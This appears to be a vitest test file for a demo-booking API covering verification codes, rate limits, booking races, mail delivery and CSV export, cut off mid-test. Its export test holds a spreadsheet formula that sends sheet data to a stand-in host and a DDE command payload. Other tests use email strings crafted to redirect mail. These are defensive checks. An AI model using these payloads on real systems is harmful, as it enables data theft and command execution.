import { parse as parseCsv } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import type { FastifyInstance } from "fastify";
import { afterEach, describe, expect, it } from "vitest";
import type { AuditEntry } from "../../common/audit";
import type { DemoRequest } from "../../common/demo";
import { demoMessages } from "../../common/demo-rules";
import { demoRequests, emailVerifications, outbox } from "../../server/db/schema";
import { maxAttempts } from "../../server/modules/mail/outbox";
import { freePort, type MailSink, startMailSink } from "../support/mail-sink";
import { createTestApp, engines, signIn, type TestApp, type TestAppOptions } from "./test-app";

/** The test clock starts on Monday 1 June 2026, 14:30 in Kolkata; Tuesday 2 June is wide open. */
const openDay = "2026-06-02";
const saturday = "2026-06-06";

const codeSent = { message: "Verification code sent to your email. Please check your inbox." };

/**
 * The limits as DESIGN §4 and the README state them, written out here rather than imported from
 * the code that enforces them: a changed constant must fail these tests, not move them along.
 */
const minute = 60_000;
const hour = 60 * minute;
const resendCooldownMs = 60_000;
const codeLifetimeMs = 10 * minute;
const wrongTriesAllowed = 5;
const verifiedForMs = 30 * minute;
const codesPerEmailAnHour = 3;
const codesPerClientAnHour = 10;

describe.each(engines)("demo booking on %s", (engine) => {
  let t: TestApp;
  let sink: MailSink | undefined;
  afterEach(async () => {
    await t?.close();
    await sink?.close();
    sink = undefined;
  });
  const start = async (options: TestAppOptions = {}) => {
    t = await createTestApp(engine, { seed: false, ...options });
    return t;
  };

  let address = 0;
  /** Each call comes from its own client address, so per-address limits stay out of the way. */
  const post = (url: string, payload: object, remoteAddress = `198.51.100.${(address++ % 250) + 1}`) =>
    t.app.inject({ method: "POST", url, payload, remoteAddress });
  const slots = async (date: string) =>
    (await t.app.inject({ method: "GET", url: `/api/schedule-demo/available-slots?date=${date}` })).json<{
      availableSlots: string[];
    }>().availableSlots;

  /** The code from the queued email: the test plays the visitor reading their inbox. */
  async function latestCode(app: FastifyInstance, email: string): Promise<string> {
    const rows = await app.services.outbox.latest({ limit: 500 });
    const message = rows.find((row) => row.to === email && row.subject.includes("verification code"));
    const code = message?.text.match(/^\s*(\d{6})\s*$/m)?.[1];
    if (!code) throw new Error(`no code was sent to ${email}`);
    return code;
  }

  async function verifyEmail(email: string) {
    expect((await post("/api/schedule-demo/send-verification-code", { email })).statusCode).toBe(200);
    const verified = await post("/api/schedule-demo/verify-code", { email, code: await latestCode(t.app, email) });
    expect(verified.json()).toEqual({ message: "Email verified successfully!" });
  }

  const booking = (overrides: object = {}) => ({
    name: "Anita Ghosh",
    company: "Hooghly Textiles",
    email: "anita@hooghly.example",
    phone: "+91 98300 12345",
    date: openDay,
    time: "10:00",
    timeZone: "Asia/Kolkata",
    fillMs: 45_000,
    ...overrides,
  });

  describe("available slots", () => {
    it("lists free times in Kolkata for an open day, and none for closed, past or far-off days", async () => {
      await start();
      const tuesday = await slots(openDay);
      expect(tuesday).toHaveLength(18);
      expect(tuesday[0]).toBe("09:00");
      expect(await slots(saturday)).toEqual([]);
      expect(await slots("2026-05-29")).toEqual([]);
      expect(await slots("2026-09-01")).toEqual([]);
      // Today: 14:30 now, two hours' notice, so the first slot is 16:30.
      expect(await slots("2026-06-01")).toEqual(["16:30", "17:00", "17:30"]);
    });

    it("answers a missing or impossible date with a 400 JSON error", async () => {
      await start();
      for (const query of ["", "?date=", "?date=tomorrow", "?date=2027-02-29", "?date=2026-13-01"]) {
        const response = await t.app.inject({ method: "GET", url: `/api/schedule-demo/available-slots${query}` });
        expect(response.statusCode, query).toBe(400);
        expect(response.json().message, query).toEqual(expect.any(String));
      }
    });
  });

  describe("verification codes", () => {
    it("never puts the code in a reply, stores only a hash, and emails it", async () => {
      await start();
      const email = "ravi@example.com";
      const response = await post("/api/schedule-demo/send-verification-code", { email: "Ravi@Example.com " });
      expect(response.statusCode).toBe(200);
      expect(response.json()).toEqual(codeSent);
      const code = await latestCode(t.app, email);
      expect(response.body).not.toContain(code);
      const [row] = await t.database.db.select().from(emailVerifications).where(eq(emailVerifications.email, email));
      expect(row?.codeHash).toMatch(/^[0-9a-f]{64}$/);
      expect(JSON.stringify(row)).not.toContain(code);
      const verifyReply = await post("/api/schedule-demo/verify-code", { email, code });
      expect(verifyReply.body).not.toMatch(/\d{6}/);
    });

    it("asks for an email and for a code with SPEC's messages", async () => {
      await start();
      expect((await post("/api/schedule-demo/send-verification-code", {})).json().errors).toEqual({
        email: "Email is required",
      });
      expect(
        (await post("/api/schedule-demo/send-verification-code", { email: "not an email" })).json().errors,
      ).toEqual({ email: "Please enter a valid email" });
      expect((await post("/api/schedule-demo/verify-code", { email: "a@b.co", code: "" })).json().errors).toEqual({
        code: "Please enter the verification code.",
      });
    });

    it("keeps one live code per address, with a silent 60-second cooldown on resends", async () => {
      await start();
      const email = "cool@example.com";
      const sentTo = async () => (await t.app.services.outbox.latest()).filter((row) => row.to === email);
      await post("/api/schedule-demo/send-verification-code", { email });
      const first = await latestCode(t.app, email);
      // A millisecond short of 60 s: still the cooldown, answered the same, nothing sent. (Three
      // requests for the address in all: a fourth within the hour would meet its limit of 3.)
      t.clock.advance(resendCooldownMs - 1);
      const again = await post("/api/schedule-demo/send-verification-code", { email });
      expect(again.json()).toEqual(codeSent);
      expect(await sentTo()).toHaveLength(1);

      // At 60 s: a new code goes out.
      t.clock.advance(1);
      expect((await post("/api/schedule-demo/send-verification-code", { email })).statusCode).toBe(200);
      expect(await sentTo()).toHaveLength(2);
      const second = await latestCode(t.app, email);
      if (second !== first) {
        const stale = await post("/api/schedule-demo/verify-code", { email, code: first });
        expect(stale.statusCode).toBe(400);
      }
      expect((await post("/api/schedule-demo/verify-code", { email, code: second })).statusCode).toBe(200);
    });

    it("expires a code after 10 minutes", async () => {
      await start();
      // Two codes sent at the same moment: a right code is used up when it verifies.
      const [onTime, late] = ["on-time@example.com", "late@example.com"];
      await post("/api/schedule-demo/send-verification-code", { email: onTime });
      await post("/api/schedule-demo/send-verification-code", { email: late });
      const onTimeCode = await latestCode(t.app, onTime);
      const lateCode = await latestCode(t.app, late);

      t.clock.advance(codeLifetimeMs - 1);
      const justBefore = await post("/api/schedule-demo/verify-code", { email: onTime, code: onTimeCode });
      expect(justBefore.json()).toEqual({ message: "Email verified successfully!" });

      t.clock.advance(1);
      const response = await post("/api/schedule-demo/verify-code", { email: late, code: lateCode });
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toBe("This code has expired. Please request a new one.");
    });

    it("voids a code after 5 wrong tries, even if the sixth is right; after 4 the right one still verifies", async () => {
      await start();
      const wrongTries = async (email: string, code: string, tries: number) => {
        const wrong = code === "000000" ? "111111" : "000000";
        for (let attempt = 1; attempt <= tries; attempt++) {
          const response = await post("/api/schedule-demo/verify-code", { email, code: wrong });
          expect(response.json().message, `wrong try ${attempt}`).toBe("Invalid verification code.");
        }
        return wrong;
      };

      const careful = "careful@example.com";
      await post("/api/schedule-demo/send-verification-code", { email: careful });
      const carefulCode = await latestCode(t.app, careful);
      await wrongTries(careful, carefulCode, wrongTriesAllowed - 1);
      expect((await post("/api/schedule-demo/verify-code", { email: careful, code: carefulCode })).json()).toEqual({
        message: "Email verified successfully!",
      });

      const email = "guess@example.com";
      await post("/api/schedule-demo/send-verification-code", { email });
      const code = await latestCode(t.app, email);
      const wrong = await wrongTries(email, code, wrongTriesAllowed - 1);
      const fifth = await post("/api/schedule-demo/verify-code", { email, code: wrong });
      expect(fifth.json().message).toBe("Too many incorrect attempts. Please request a new code.");
      const right = await post("/api/schedule-demo/verify-code", { email, code });
      expect(right.statusCode).toBe(400);
      expect(right.json().message).toBe("Invalid verification code.");
    });

    it("limits sends to 3 an hour per address and 10 an hour per client, with 429 and Retry-After", async () => {
      await start();
      const email = "many@example.com";
      const sendTo = (to: string, client?: string) =>
        post("/api/schedule-demo/send-verification-code", { email: to }, client);
      for (let send = 1; send <= codesPerEmailAnHour; send++) {
        expect((await sendTo(email)).statusCode, `send ${send}`).toBe(200);
        t.clock.advance(resendCooldownMs);
      }
      const fourth = await sendTo(email);
      expect(fourth.statusCode).toBe(429);
      expect(Number(fourth.headers["retry-after"])).toBeGreaterThan(0);
      expect(fourth.json().message).toMatch(/^Too many codes were requested for this email address/);
      // The hour runs from the first send: a millisecond before it ends still refused, then allowed.
      const sinceFirst = codesPerEmailAnHour * resendCooldownMs;
      t.clock.advance(hour - sinceFirst - 1);
      expect((await sendTo(email)).statusCode).toBe(429);
      t.clock.advance(1);
      expect((await sendTo(email)).statusCode).toBe(200);

      const client = "203.0.113.77";
      for (let send = 1; send <= codesPerClientAnHour; send++) {
        expect((await sendTo(`p${send}@example.com`, client)).statusCode, `send ${send}`).toBe(200);
      }
      const eleventh = await sendTo("p11@example.com", client);
      expect(eleventh.statusCode).toBe(429);
      expect(eleventh.json().message).toMatch(/^Too many codes were requested from your network/);
      t.clock.advance(hour - 1);
      expect((await sendTo("p12@example.com", client)).statusCode).toBe(429);
      t.clock.advance(1);
      expect((await sendTo("p13@example.com", client)).statusCode).toBe(200);
    });

    it("caps sends per email domain, so a catch-all domain cannot take every code; other domains go on", async () => {
      // At this scale the per-domain cap is 5 an hour while each address and client may still send one.
      await start({ env: { RATE_LIMIT_SCALE: "0.05" } });
      for (let send = 1; send <= 5; send++) {
        const response = await post("/api/schedule-demo/send-verification-code", {
          email: `d${send}@catch-all.example`,
        });
        expect(response.statusCode).toBe(200);
      }
      const over = await post("/api/schedule-demo/send-verification-code", { email: "d6@Catch-All.example" });
      expect(over.statusCode).toBe(429);
      expect(over.json().message).toMatch(/^Too many codes were requested for addresses at this domain/);
      expect(
        (await post("/api/schedule-demo/send-verification-code", { email: "d6@elsewhere.example" })).statusCode,
      ).toBe(200);
    });

    it("refuses what nodemailer would deliver to someone else as an invalid email, and sends nothing", async () => {
      await start();
      for (const email of [
        "a,victim@x.com",
        "victim@x.com,",
        "x<victim@x.com>",
        "(c)victim@x.com",
        "victim@x.com (c)",
      ]) {
        const response = await post("/api/schedule-demo/send-verification-code", { email });
        expect(response.statusCode, email).toBe(400);
        expect(response.json(), email).toEqual({
          message: "Please enter a valid email",
          errors: { email: "Please enter a valid email" },
        });
      }
      expect(await t.app.services.outbox.latest()).toEqual([]);
    });

    it("counts one mailbox once: the per-email limit ignores case", async () => {
      await start();
      // As many spellings as the hour allows sends (3), then one more.
      for (const email of ["Victim@Example.com", "VICTIM@example.com", "victim@EXAMPLE.COM"]) {
        expect((await post("/api/schedule-demo/send-verification-code", { email })).statusCode).toBe(200);
        t.clock.advance(resendCooldownMs);
      }
      expect(
        (await post("/api/schedule-demo/send-verification-code", { email: "victim@example.com" })).statusCode,
      ).toBe(429);
    });

    it("checks the per-address limit first: requests it refuses count against no email address", async () => {
      await start();
      const client = "203.0.113.90";
      for (let send = 1; send <= codesPerClientAnHour; send++) {
        await post("/api/schedule-demo/send-verification-code", { email: `filler${send}@example.com` }, client);
      }
      for (let attempt = 0; attempt < 5; attempt++) {
        const refused = await post(
          "/api/schedule-demo/send-verification-code",
          { email: "target@example.com" },
          client,
        );
        expect(refused.json().message).toMatch(/^Too many codes were requested from your network/);
      }
      // The owner of the address, elsewhere, still has all three sends of the hour.
      for (let send = 1; send <= codesPerEmailAnHour; send++) {
        expect(
          (await post("/api/schedule-demo/send-verification-code", { email: "target@example.com" })).statusCode,
        ).toBe(200);
        t.clock.advance(resendCooldownMs);
      }
    });

    it("answers an oversized body 413 unread, and a long hostile address 400, on every public form", async () => {
      await start();
      const probe = `a@${".".repeat(100_000)} x`;
      const nearLimit = `a@${".".repeat(7_000)} x`;
      for (const url of [
        "/api/schedule-demo/send-verification-code",
        "/api/schedule-demo/verify-code",
        "/api/schedule-demo",
        "/api/contact",
      ]) {
        const huge = await post(url, { email: probe, code: "123456", name: "x", message: "x" });
        expect(huge.statusCode, url).toBe(413);
        expect(huge.json(), url).toEqual({ message: "The request body is too large" });
        const long = await post(url, { email: nearLimit, code: "123456", name: "x", message: "x" });
        expect(long.statusCode, url).toBe(400);
        expect(long.json().errors?.email, url).toBe("Email must be at most 254 characters");
      }
    });
  });

  describe("booking", () => {
    it("validates SPEC's fields with SPEC's messages", async () => {
      await start();
      const response = await post("/api/schedule-demo", {
        name: "",
        company: " ",
        email: "nope",
        phone: "",
        date: "",
        time: "",
      });
      expect(response.statusCode).toBe(400);
      expect(response.json().errors).toEqual({
        company: "Company name is required",
        email: "Please enter a valid email",
        phone: "Phone number is required",
        date: "Please select a date",
        time: "Please select a time",
      });
      expect(await t.database.db.select().from(demoRequests)).toEqual([]);
    });

    it("keeps the plan a visitor came from by name, shows it to staff, and refuses a plan that does not exist", async () => {
      await start({ seed: true });
      await verifyEmail("anita@hooghly.example");
      const [gold] = (await t.app.services.plans.list()).filter((plan) => plan.name === "Gold");
      expect(gold).toBeDefined();

      const unknown = await post("/api/schedule-demo", booking({ plan: "diamond" }));
      expect(unknown.statusCode).toBe(400);
      expect(unknown.json()).toEqual({
        message: "Choose a plan from the list",
        errors: { plan: "Choose a plan from the list" },
      });
      expect(await t.database.db.select().from(demoRequests)).toEqual([]);

      const booked = await post("/api/schedule-demo", booking({ plan: "gold" }));
      expect(booked.statusCode).toBe(201);
      const [stored] = await t.database.db.select().from(demoRequests);
      expect(stored?.plan).toBe("Gold");
      const staffMail = (await t.database.db.select().from(outbox)).find((row) => row.subject.startsWith("New Demo"));
      expect(staffMail?.text).toMatch(/Plan\s+Gold/);
      const token = await signIn(t.app);
      const listed = await t.app.inject({
        method: "GET",
        url: "/api/admin/demo-requests",
        headers: { "x-auth-token": token },
      });
      expect(listed.json<DemoRequest[]>()[0]?.plan).toBe("Gold");
    });

    it("refuses an unverified email with 403, and a verification older than 30 minutes", async () => {
      await start();
      const refused = await post("/api/schedule-demo", booking());
      expect(refused.statusCode).toBe(403);
      expect(refused.json()).toEqual({ message: "Please verify your email address before submitting." });

      // Two guests verified at the same moment: a booking uses its verification up.
      await verifyEmail("anita@hooghly.example");
      await verifyEmail("ravi@hooghly-two.example");
      t.clock.advance(verifiedForMs - 1);
      const justBefore = await post("/api/schedule-demo", booking({ date: "2026-06-03" }));
      expect(justBefore.statusCode).toBe(201);
      t.clock.advance(1);
      const late = await post("/api/schedule-demo", booking({ email: "ravi@hooghly-two.example", date: "2026-06-04" }));
      expect(late.statusCode).toBe(403);
      expect((await t.database.db.select().from(demoRequests)).map((row) => row.email)).toEqual([
        "anita@hooghly.example",
      ]);
    });

    it("books a verified request, queues both emails with it, and the slot disappears", async () => {
      await start();
      await verifyEmail("anita@hooghly.example");
      const response = await post(
        "/api/schedule-demo",
        booking({ utmSource: "newsletter", referrer: "https://x.example" }),
      );
      expect(response.statusCode).toBe(201);
      const { _id: id } = response.json<{ _id: string }>();
      expect(response.json()).toEqual({
        message: "Thank you! Your demo request has been sent successfully.",
        _id: id,
        booking: {
          businessTime: expect.stringMatching(/at 10:00 AM India Standard Time$/),
          guestTime: expect.stringMatching(/at 10:00 AM India Standard Time$/),
          timeZone: "Asia/Kolkata",
          calendarUrl: expect.stringMatching(
            new RegExp(`^/api/schedule-demo/${id}/calendar\\.ics\\?signature=[\\w%-]+$`),
          ),
          manageUrl: expect.stringMatching(new RegExp(`^/schedule-demo/manage/${id}\\?signature=[\\w%-]+$`)),
        },
      });
      expect(await slots(openDay)).not.toContain("10:00");
      expect(await slots(openDay)).toHaveLength(17);

      const [stored] = await t.database.db.select().from(demoRequests);
      expect(stored).toMatchObject({
        company: "Hooghly Textiles",
        slotTime: "10:00",
        utmSource: "newsletter",
        status: "new",
      });
      const queued = (await t.app.services.outbox.latest()).filter((row) => row.relatedId === stored?.id);
      expect(queued.map((row) => row.subject).sort()).toEqual([
        "New Demo Request from Hooghly Textiles",
        // The 24-hour reminder's time had passed at booking; the 1-hour one waits (demo-manage.test.ts).
        "Reminder: your Aster HRMS demo starts in 1 hour",
        "Your Aster HRMS demo: Tuesday, June 2, 2026 at 10:00 AM India Standard Time",
      ]);

      // One verification, one booking.
      expect((await post("/api/schedule-demo", booking({ time: "11:00" }))).statusCode).toBe(403);
    });

    it("refuses a time the calendar does not offer: a weekend, outside hours, or too soon", async () => {
      await start();
      await verifyEmail("anita@hooghly.example");
      for (const [date, time] of [
        [saturday, "10:00"],
        [openDay, "08:30"],
        [openDay, "10:15"],
        ["2026-06-01", "15:00"],
      ] as const) {
        const response = await post("/api/schedule-demo", booking({ date, time }));
        expect(response.statusCode, `${date} ${time}`).toBe(400);
        expect(response.json().errors.time).toBe("That time is not available. Please pick another.");
      }
      expect(await t.database.db.select().from(demoRequests)).toEqual([]);
    });

    it("gives a taken slot to one person: the second gets 409 and SPEC's message", async () => {
      await start();
      await verifyEmail("first@example.com");
      await verifyEmail("second@example.com");
      expect((await post("/api/schedule-demo", booking({ email: "first@example.com" }))).statusCode).toBe(201);
      const late = await post("/api/schedule-demo", booking({ email: "second@example.com" }));
      expect(late.statusCode).toBe(409);
      expect(late.json().message).toBe("That time was just booked. Please pick another.");
    });

    it("100 parallel requests for one slot give exactly one 201", async () => {
      await start({ env: { RATE_LIMIT_SCALE: "0" } });
      const emails = Array.from({ length: 100 }, (_, index) => `racer${index}@example.com`);
      for (const email of emails) await post("/api/schedule-demo/send-verification-code", { email });
      for (const email of emails) {
        await post("/api/schedule-demo/verify-code", { email, code: await latestCode(t.app, email) });
      }
      const answers = await Promise.all(emails.map((email) => post("/api/schedule-demo", booking({ email }))));
      const statuses = answers.map((answer) => answer.statusCode);
      expect(statuses.filter((status) => status === 201)).toHaveLength(1);
      expect(statuses.filter((status) => status === 409)).toHaveLength(99);
      const live = await t.database.db.select().from(demoRequests);
      expect(live).toHaveLength(1);
      // The losers' emails were rolled back with their rows: two messages for the one booking.
      const demoMail = (await t.app.services.outbox.latest({ limit: 500 })).filter(
        (row) => row.relatedType === "demo_request",
      );
      expect(demoMail).toHaveLength(2);
    });

    it("refuses a sixth demo still to come for one email domain, with a message saying why", async () => {
      await start({ env: { RATE_LIMIT_SCALE: "0" } });
      const times = ["09:00", "09:30", "10:00", "10:30", "11:00", "11:30"];
      for (const [index, time] of times.slice(0, 5).entries()) {
        const email = `person${index}@acme.example`;
        await verifyEmail(email);
        expect((await post("/api/schedule-demo", booking({ email, time }))).statusCode).toBe(201);
      }
      await verifyEmail("sixth@acme.example");
      const sixth = await post("/api/schedule-demo", booking({ email: "Sixth@ACME.example", time: "11:30" }));
      expect(sixth.statusCode).toBe(409);
      expect(sixth.json()).toEqual({
        message:
          "Your company already has several demos booked with us. Please contact us to arrange another, or cancel one you no longer need.",
      });
      expect(await slots(openDay)).toContain("11:30");
      await verifyEmail("someone@other.example");
      expect(
        (await post("/api/schedule-demo", booking({ email: "someone@other.example", time: "11:30" }))).statusCode,
      ).toBe(201);
    });

    it("lets six Gmail visitors each book: a public provider's domain is not one company, its mailbox is", async () => {
      await start({ env: { RATE_LIMIT_SCALE: "0" } });
      const times = ["09:00", "09:30", "10:00", "10:30", "11:00", "11:30"];
      for (const [index, time] of times.entries()) {
        const email = `visitor${index}@gmail.com`;
        await verifyEmail(email);
        const booked = await post("/api/schedule-demo", booking({ email, time }));
        expect(booked.statusCode, `${email}: ${booked.body}`).toBe(201);
      }
      // One person with five demos to come: aliases of the same Gmail inbox count as that inbox.
      const aliases = ["anita.ghosh", "anitaghosh", "anita.ghosh+hr", "a.nitaghosh", "anitaghosh+x", "anita.g.hosh+6"];
      const later = ["12:00", "12:30", "13:00", "13:30", "14:00", "14:30"];
      for (const [index, alias] of aliases.slice(0, 5).entries()) {
        await verifyEmail(`${alias}@gmail.com`);
        const booked = await post("/api/schedule-demo", booking({ email: `${alias}@gmail.com`, time: later[index] }));
        expect(booked.statusCode, alias).toBe(201);
      }
      await verifyEmail("anita.g.hosh+6@gmail.com");
      const sixth = await post("/api/schedule-demo", booking({ email: "anita.g.hosh+6@gmail.com", time: "14:30" }));
      expect(sixth.statusCode).toBe(409);
      expect(sixth.json()).toEqual({
        message:
          "You already have several demos booked with us. Please contact us to arrange another, or cancel one you no longer need.",
      });
    });

    it("keeps certain spam out silently; a form sent within seconds is booked as usual, marked for staff", async () => {
      await start();
      await verifyEmail("anita@hooghly.example");
      // A filled honeypot: software, for sure. Stored with its reason, not booked, not emailed.
      const honeypot = await post("/api/schedule-demo", booking({ website: "http://spam.example" }));
      expect(honeypot.statusCode).toBe(201);
      expect(honeypot.json().message).toBe("Thank you! Your demo request has been sent successfully.");
      expect(await slots(openDay)).toContain("10:00");
      expect((await t.app.services.outbox.latest()).filter((row) => row.relatedType === "demo_request")).toEqual([]);

      // Sent 800 ms after the form appeared (a browser that autofilled it): speed alone is not
      // spam. Booked, with its emails, and marked "possibly spam" for staff.
      const hasty = await post("/api/schedule-demo", booking({ fillMs: 800 }));
      expect(hasty.statusCode).toBe(201);
      expect(await slots(openDay)).not.toContain("10:00");
      const rows = await t.database.db.select().from(demoRequests);
      expect(rows.map((row) => [row.spamReason, row.spamDoubt])).toEqual([
        ["honeypot field filled", null],
        [null, "sent 800 ms after the form appeared"],
      ]);
      const mail = (await t.app.services.outbox.latest()).filter((row) => row.relatedType === "demo_request");
      const staffNotice = mail.find((row) => row.subject === "New Demo Request from Hooghly Textiles");
      expect(staffNotice?.text).toContain("Possibly spam (sent 800 ms after the form appeared)");
      expect(mail.some((row) => row.to === "anita@hooghly.example")).toBe(true);
      const listed = await t.app.inject({
        method: "GET",
        url: "/api/admin/demo-requests",
        headers: { "x-auth-token": await signIn(t.app) },
      });
      expect(listed.json()).toEqual([
        expect.objectContaining({ email: "anita@hooghly.example", spamDoubt: "sent 800 ms after the form appeared" }),
      ]);

      // The same person, quick again: someone whose request reached staff is not doubted for it.
      t.clock.advance(resendCooldownMs);
      await verifyEmail("anita@hooghly.example");
      expect((await post("/api/schedule-demo", booking({ time: "11:00", fillMs: 900 }))).statusCode).toBe(201);
      const [latest] = await t.database.db.select().from(demoRequests).where(eq(demoRequests.slotTime, "11:00"));
      expect(latest).toMatchObject({ spamReason: null, spamDoubt: null });
    });
  });

  describe("email", () => {
    it("sends the staff notice and the invitation with both times, and the manage link cancels and frees the slot", async () => {
      sink = await startMailSink();
      await start({ env: { SMTP_URL: sink.url, SALES_EMAIL: "sales@aster.example" } });
      await verifyEmail("maria@example.com");
      await t.app.services.outbox.deliverDue();
      const booked = await post(
        "/api/schedule-demo",
        booking({ email: "maria@example.com", name: "Maria Lopez", timeZone: "America/Los_Angeles" }),
      );
      expect(booked.statusCode).toBe(201);
      await t.app.services.outbox.deliverDue();

      const staff = await sink.waitFor((message) => message.subject === "New Demo Request from Hooghly Textiles");
      expect(staff.to && "text" in staff.to ? staff.to.text : "").toBe("sales@aster.example");
      for (const field of [
        "Maria Lopez",
        "Hooghly Textiles",
        "maria@example.com",
        "+91 98300 12345",
        openDay,
        "10:00",
      ]) {
        expect(staff.text, field).toContain(field);
      }
      expect(staff.text).toContain("Requested on Monday, June 1, 2026");
      expect(staff.messageId).toMatch(/^<[0-9a-f-]+@localhost>$/);

      const invite = await sink.waitFor((message) => message.subject?.startsWith("Your Aster HRMS demo") ?? false);
      expect(invite.text).toContain("Tuesday, June 2, 2026 at 10:00 AM India Standard Time");
      expect(invite.text).toContain("Monday, June 1, 2026 at 9:30 PM Pacific Daylight Time");
      const calendar = invite.attachments.find((part) => part.contentType.startsWith("text/calendar"));
      // Unfolded: iCalendar wraps lines longer than 75 octets.
      const ics = (calendar?.content.toString() ?? "").replace(/\r\n[ \t]/g, "");
      expect(ics).toContain("METHOD:REQUEST");
      expect(ics).toContain("DTSTART:20260602T043000Z");
      expect(ics).toMatch(/ATTENDEE;.*maria@example\.com/);

      expect(invite.text).toContain("Manage your booking");
      const link = new URL(invite.text?.match(/https?:\/\/\S+\/schedule-demo\/manage\/\S+/)?.[0] ?? "");
      const id = link.pathname.split("/").at(-1);
      const forged = await post(`/api/schedule-demo/${id}/cancel`, { signature: "x".repeat(43) });
      expect(forged.statusCode).toBe(404);
      const cancelled = await post(`/api/schedule-demo/${id}/cancel`, {
        signature: link.searchParams.get("signature"),
      });
      expect(cancelled.json()).toEqual({ message: "Your demo is cancelled. We have emailed you a confirmation." });
      expect(await slots(openDay)).toContain("10:00");
      await t.app.services.outbox.deliverDue();
      const withdrawal = await sink.waitFor((message) => message.subject === "Cancelled: your Aster HRMS demo");
      const cancelIcs = withdrawal.attachments.find((part) => part.contentType.startsWith("text/calendar"));
      expect(cancelIcs?.content.toString()).toContain("METHOD:CANCEL");
      expect(cancelIcs?.content.toString()).toContain(`UID:demo-${id}@localhost`);
      await sink.waitFor((message) => message.subject === "Demo cancelled: Hooghly Textiles");
      const twice = await post(`/api/schedule-demo/${id}/cancel`, { signature: link.searchParams.get("signature") });
      expect(twice.json().message).toBe("This demo was already cancelled.");
    });

    it("the emailed manage link no longer cancels once staff mark the demo done, or its time has passed", async () => {
      await start({ env: { RATE_LIMIT_SCALE: "0" } });
      const cancelLinkOf = async (email: string) => {
        const rows = await t.app.services.outbox.latest();
        const confirmation = rows.find((row) => row.to === email && row.subject.startsWith("Your Aster HRMS demo"));
        const link = new URL(confirmation?.text.match(/https?:\/\/\S+\/schedule-demo\/manage\/\S+/)?.[0] ?? "");
        return { id: link.pathname.split("/").at(-1), signature: link.searchParams.get("signature") };
      };
      for (const [email, time] of [
        ["done@example.com", "10:00"],
        ["late@example.com", "10:30"],
      ] as const) {
        await verifyEmail(email);
        expect((await post("/api/schedule-demo", booking({ email, time }))).statusCode).toBe(201);
      }
      const closed = { message: demoMessages.cancelClosed };

      const done = await cancelLinkOf("done@example.com");
      const token = await signIn(t.app);
      const marked = await t.app.inject({
        method: "PATCH",
        url: `/api/admin/demo-requests/${done.id}`,
        headers: { "x-auth-token": token },
        payload: { status: "demo_held" },
      });
      expect(marked.statusCode).toBe(200);
      const afterDone = await post(`/api/schedule-demo/${done.id}/cancel`, { signature: done.signature });
      expect(afterDone.statusCode).toBe(409);
      expect(afterDone.json()).toEqual(closed);

      const late = await cancelLinkOf("late@example.com");
      t.clock.advance(24 * 3_600_000); // Tuesday 14:30 in Kolkata: the 10:30 demo is over.
      const afterSlot = await post(`/api/schedule-demo/${late.id}/cancel`, { signature: late.signature });
      expect(afterSlot.statusCode).toBe(409);
      expect(afterSlot.json()).toEqual(closed);

      const rows = await t.database.db.select().from(demoRequests);
      expect(rows.map((row) => [row.email, row.status]).sort()).toEqual([
        ["done@example.com", "demo_held"],
        ["late@example.com", "new"],
      ]);
    });

    it("books while the mail server is down, and sends every queued email exactly once when it is back", async () => {
      const port = await freePort();
      await start({ env: { SMTP_URL: `smtp://127.0.0.1:${port}` } });
      for (const [index, time] of ["10:00", "10:30", "11:00"].entries()) {
        const email = `down${index}@example.com`;
        await verifyEmail(email);
        expect((await post("/api/schedule-demo", booking({ email, time }))).statusCode).toBe(201);
      }
      expect(await t.database.db.select().from(demoRequests)).toHaveLength(3);

      const firstRound = await t.app.services.outbox.deliverDue();
      expect(firstRound.sent).toBe(0);
      // Each booking also queued its 1-hour reminder, held until Tuesday morning (demo-manage.test.ts).
      const reminders = (await t.database.db.select().from(outbox)).filter(
        (row) => row.relatedType === "demo_reminder",
      );
      expect(reminders).toHaveLength(3);
      const waiting = (await t.database.db.select().from(outbox)).filter((row) => row.relatedType !== "demo_reminder");
      expect(waiting).toHaveLength(9);
      expect(waiting.every((row) => row.status === "queued" && row.attempts === 1)).toBe(true);
      expect(waiting[0]?.lastError).toMatch(/ECONNREFUSED|connect/i);

      sink = await startMailSink(port);
      // Not before its retry time…
      expect((await t.app.services.outbox.deliverDue()).sent).toBe(0);
      t.clock.advance(60_000);
      let delivered = 0;
      for (let round = 0; round < 3; round++) delivered += (await t.app.services.outbox.deliverDue()).sent;
      expect(delivered).toBe(9);
      expect(sink.messages).toHaveLength(9);
      expect(new Set(sink.messages.map((message) => message.messageId)).size).toBe(9);
      t.clock.advance(60 * 60 * 1000);
      expect((await t.app.services.outbox.deliverDue()).sent).toBe(0);
      expect(sink.messages).toHaveLength(9);
      const rows = await t.database.db.select().from(outbox);
      expect(rows.every((row) => row.status === (row.relatedType === "demo_reminder" ? "queued" : "sent"))).toBe(true);
    });

    it("gives up after the last retry and keeps the error", async () => {
      const port = await freePort();
      await start({ env: { SMTP_URL: `smtp://127.0.0.1:${port}` } });
      await post("/api/schedule-demo/send-verification-code", { email: "never@example.com" });
      for (let attempt = 1; attempt <= maxAttempts; attempt++) {
        await t.app.services.outbox.deliverDue();
        t.clock.advance(60 * 60 * 1000);
      }
      const [row] = await t.database.db.select().from(outbox);
      expect(row).toMatchObject({ status: "failed", attempts: maxAttempts });
      expect(row?.lastError).toMatch(/ECONNREFUSED|connect/i);
      expect((await t.app.services.outbox.deliverDue()).sent).toBe(0);
    });
  });

  describe("back office", () => {
    it("exports visitors' text as text: a company that is a formula does not run in a spreadsheet", async () => {
      // Seeded: the plans, so the request can name one and the export shows it.
      await start({ seed: true, env: { RATE_LIMIT_SCALE: "0" } });
      const formula = '=HYPERLINK("https://evil.example/?d="&D2:D500,"Open")';
      await verifyEmail("formula@example.com");
      const booked = await post(
        "/api/schedule-demo",
        booking({
          email: "formula@example.com",
          company: formula,
          name: "@SUM(1+1)",
          utmSource: "+cmd|' /C calc'!A0",
          plan: "gold",
        }),
      );
      expect(booked.statusCode).toBe(201);
      // 20:00 UTC is 01:30 the next day in Kolkata: the file is named for India's day, by the clock.
      t.clock.set("2026-06-01T20:00:00Z");
      const token = await signIn(t.app);
      const exported = await t.app.inject({
        method: "GET",
        url: "/api/admin/demo-requests/export.csv",
        headers: { "x-auth-token": token },
      });
      expect(exported.statusCode).toBe(200);
      expect(exported.headers["content-disposition"]).toBe('attachment; filename="demo-requests-2026-06-02.csv"');
      const [header, row] = parseCsv(exported.body) as string[][];
      const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
